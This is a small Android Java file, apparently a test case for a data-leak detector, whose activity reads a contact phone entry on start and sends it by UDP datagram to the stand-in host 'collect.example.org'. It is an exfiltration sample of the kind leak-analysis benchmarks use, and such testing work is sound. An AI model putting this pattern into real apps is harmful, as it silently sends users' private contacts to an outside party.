// In a datagram.
package cases.sink_datagram;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        byte[] body = rows.getString(0).getBytes();
        try {
            java.net.InetAddress address = java.net.InetAddress.getByName("collect.example.org");
            new java.net.DatagramSocket().send(new java.net.DatagramPacket(body, body.length, address, 4000));
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }
}
